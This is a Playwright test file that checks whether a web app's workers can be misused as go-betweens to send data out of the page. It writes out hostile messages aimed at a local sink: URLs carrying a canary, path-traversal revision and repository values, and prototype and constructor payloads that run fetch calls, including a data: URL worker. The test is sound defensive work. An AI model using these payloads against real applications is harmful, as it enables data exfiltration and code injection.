// Tests realms as go-betweens: a compromised page sends messages to the weights worker, which can reach a host, and
// workers with access to pictures try to start a worker that can. The sink is a host that the policy allows, so that
// only the worker's own checks can stop a message. All walls stand except Trusted Types, which would prevent the test
// from starting a worker.

import { expect, test, type Page, type Worker } from '@playwright/test';
import { readdirSync } from 'node:fs';
import { serveChanged, withoutTrustedTypes } from './changed-app.ts';
import { Sink } from './sink.ts';

test.use({ serviceWorkers: 'block', locale: 'en' });
test.setTimeout(300_000);

const CANARY = 'canary5e20';
const SETTLE_MS = 4000;

const asset = (begin: string, end: string): string =>
  `assets/${readdirSync('dist/assets').find((name) => name.startsWith(begin) && name.endsWith(end)) ?? ''}`;

/** Messages in Comlink's format, and others that Comlink would never send. */
function messages(host: string): [name: string, message: unknown][] {
  const call = (path: unknown, ...values: unknown[]): unknown => ({
    type: 'APPLY',
    path,
    argumentList: values.map((value) => ({ type: 'RAW', value })),
  });
  const download = (source: unknown, id = CANARY): unknown =>
    call(['download'], '1', { id, name: 'x', source }, null);
  const hub = { kind: 'hub', endpoint: host, repo: 'a/b', revision: 'main', preset: 'balanced' };
  const aim = `${host}/${CANARY}`;
  return [
    ['catalogue at an address', call(['catalogue'], `${aim}.json`)],
    ['package with a query', download({ kind: 'package', url: `${host}/p/?${CANARY}` })],
    ['package with an empty query', download({ kind: 'package', url: `${aim}?` })],
    ['package with a fragment', download({ kind: 'package', url: `${aim}/#x` })],
    ['package with a name', download({ kind: 'package', url: aim.replace('//', `//${CANARY}@`) })],
    ['package with a long path', download({ kind: 'package', url: `${aim}${'x'.repeat(300)}/` })],
    ['package under a listed name', download({ kind: 'package', url: `${host}/p/?${CANARY}` }, 'demo')],
    ['hub with a path', download({ ...hub, endpoint: aim })],
    ['hub with a query', download({ ...hub, endpoint: `${host}/?${CANARY}` })],
    ['repository with a query', download({ ...hub, repo: `a/b?${CANARY}` })],
    ['repository with a longer path', download({ ...hub, repo: `a/b/${CANARY}` })],
    ['repository further up', download({ ...hub, repo: `../${CANARY}` })],
    ['revision further up', download({ ...hub, revision: `../../${CANARY}` })],
    ['revision with a query', download({ ...hub, revision: `main?${CANARY}` })],
    ['revision that is long', download({ ...hub, revision: CANARY.repeat(30) })],
    ['a source of no known kind', download({ kind: 'fetch', url: aim })],
    ['a link that is read', call(['readLink'], aim, aim, 'balanced')],
    ['a check of an address', call(['checkUp'], '1', aim, null)],
    ['what is held of an address', call(['held'], aim)],
    ['code by way of a function', call(['list', 'constructor'], `fetch('${aim}')`)],
    ['code by way of the API', call(['constructor', 'constructor'], `fetch('${aim}')`)],
    ['another function in its place', { type: 'SET', path: ['list'], value: { type: 'RAW', value: aim } }],
    ['an object built', { type: 'CONSTRUCT', path: ['list', 'constructor'], argumentList: [] }],
    ['a property read', { type: 'GET', path: ['__proto__', 'constructor'] }],
  ];
}

test('the workers carry nothing out as go-betweens', async ({ page }) => {
  const sink = await Sink.start();
  const host = `http://127.0.0.1:${sink.port}`;
  process.env.DARKROOM_HOSTS = host;
  const app = await serveChanged(withoutTrustedTypes);
  try {
    await page.goto(app.origin);
    await expect(page.getByRole('textbox', { name: 'Question', exact: true })).toBeVisible();
    const tried = messages(host);
    for (const [, message] of tried) await post(page, message);

    const nested: string[] = [];
    for (const script of ['media.worker', 'inference.worker']) {
      const worker = await started(page, asset(script, '.js'));
      for (const other of ['weights.worker', 'inference.worker', 'media.worker', 'hash.worker']) {
        const url = app.origin + asset(other, '.js');
        nested.push(`${script} → ${other}`);
        expect(await starts(worker, url), nested.at(-1)).toBe(false);
      }
      nested.push(`${script} → a worker of its own`);
      expect(await starts(worker, `data:text/javascript,fetch('${host}/${CANARY}')`)).toBe(false);
    }

    await page.goto(`${app.origin}?model=${encodeURIComponent(`${host}/${CANARY}/`)}`);
    await page.waitForTimeout(SETTLE_MS);
    const ways = tried.length + nested.length + 1;
    console.log(`${ways} ways by a go-between, ${carried(sink)} carried something out`);
    expect(ways).toBeGreaterThanOrEqual(20);
    expect(sink.arrivals.filter((arrival) => arrival !== 'connection')).toEqual([]);

    // A plain link remains possible: the app fetches it once the user agrees. It also shows that the sink can be
    // reached.
    const source = { kind: 'package', url: `${host}/plain/` };
    await post(page, {
      type: 'APPLY',
      path: ['download'],
      argumentList: ['2', { id: 'plain', name: 'x', source }, null].map((value) => ({ type: 'RAW', value })),
    });
    await expect
      .poll(() => sink.arrivals.some((arrival) => arrival.includes('/plain/')), { timeout: 60_000 })
      .toBe(true);
  } finally {
    delete process.env.DARKROOM_HOSTS;
    await app.stop();
    await sink.stop();
  }
});

const carried = (sink: Sink): number => sink.arrivals.filter((arrival) => arrival.includes(CANARY)).length;

/** Sends a message to a weights worker that the page itself starts, as a script in the page could. */
async function post(page: Page, message: unknown): Promise<void> {
  await page.evaluate(
    async ([path, sent]) => {
      const worker = new Worker(path, { type: 'module' });
      await new Promise((resolve) => {
        worker.onmessage = resolve;
        worker.onerror = resolve;
      });
      worker.postMessage({ id: '1', ...(sent as object) });
      await new Promise((later) => setTimeout(later, 400));
      setTimeout(() => worker.terminate(), 3000);
    },
    [asset('weights.worker', '.js'), message] as const,
  );
}

async function started(page: Page, path: string): Promise<Worker> {
  const own = `${path}?${Date.now()}`;
  const worker = page.waitForEvent('worker', (each) => each.url().endsWith(own));
  await page.evaluate((url) => {
    Object.assign(window, { kept: new Worker(url, { type: 'module' }) });
  }, own);
  return worker;
}

function starts(worker: Worker, url: string): Promise<boolean> {
  return worker.evaluate(
    (script) =>
      new Promise<boolean>((resolve) => {
        try {
          const nested = new Worker(script, { type: 'module' });
          nested.onmessage = () => resolve(true);
          nested.onerror = () => resolve(false);
          setTimeout(() => resolve(true), 20_000);
        } catch {
          resolve(false);
        }
      }),
    url,
  );
}
